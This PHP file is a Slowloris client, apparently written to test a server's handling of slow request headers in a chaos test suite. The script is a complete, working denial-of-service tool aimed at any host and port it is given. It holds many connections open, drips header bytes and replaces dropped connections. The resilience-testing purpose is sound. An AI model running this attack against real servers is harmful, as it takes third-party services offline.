<?php

/**
 * Slowloris client for tests/chaos/slowloris.sh: keeps COUNT connections open for SECONDS, each
 * sending a request head that never ends, one byte every INTERVAL seconds (the first byte at
 * once). A connection the server closes is counted (with a 408 response or without one) and
 * replaced by a new one, so the attack lasts the whole run.
 *
 * Usage: php slowloris.php HOST PORT COUNT INTERVAL_S SECONDS
 * Prints one line: opened=N closed_408=N closed_other=N open_at_end=N
 */

declare(strict_types=1);

[$host, $port, $count, $interval, $seconds] = [$argv[1], (int) $argv[2], (int) $argv[3], (float) $argv[4], (float) $argv[5]];

$head = "GET /slow HTTP/1.1\r\nHost: {$host}\r\nUser-Agent: slowloris\r\nX-Slow: " . str_repeat('a', 4096);

/** @var array<int, array{sock: resource, sent: int, next: float, got: string}> $conns */
$conns = [];
$stats = ['opened' => 0, 'closed_408' => 0, 'closed_other' => 0, 'connect_failed' => 0];

$open = static function () use ($host, $port, $head, $interval, &$conns, &$stats): void {
    $sock = @stream_socket_client("tcp://{$host}:{$port}", $errno, $errstr, 5);
    if ($sock === false) {
        $stats['connect_failed']++;
        return;
    }
    stream_set_blocking($sock, false);
    @fwrite($sock, $head[0]);
    // Spread the drips over the interval so they do not all arrive in the same millisecond.
    $conns[] = ['sock' => $sock, 'sent' => 1, 'next' => microtime(true) + $interval * (mt_rand(50, 100) / 100), 'got' => ''];
    $stats['opened']++;
};

for ($i = 0; $i < $count; $i++) {
    $open();
}
fwrite(STDERR, "slowloris: {$stats['opened']} connections open\n");

$end = microtime(true) + $seconds;
while (($now = microtime(true)) < $end) {
    foreach ($conns as $k => &$c) {
        $data = @fread($c['sock'], 8192);
        if (is_string($data) && $data !== '') {
            $c['got'] .= $data;
        }
        if (feof($c['sock'])) {
            $stats[str_starts_with($c['got'], 'HTTP/1.1 408') ? 'closed_408' : 'closed_other']++;
            fclose($c['sock']);
            unset($conns[$k]);
            continue;
        }
        if ($now >= $c['next'] && $c['sent'] < strlen($head)) {
            @fwrite($c['sock'], $head[$c['sent']]);
            $c['sent']++;
            $c['next'] = $now + $interval;
        }
    }
    unset($c);
    while (count($conns) < $count && microtime(true) < $end) {
        $open();
    }
    usleep(100000);
}

printf(
    "opened=%d closed_408=%d closed_other=%d open_at_end=%d connect_failed=%d\n",
    $stats['opened'],
    $stats['closed_408'],
    $stats['closed_other'],
    count($conns),
    $stats['connect_failed'],
);
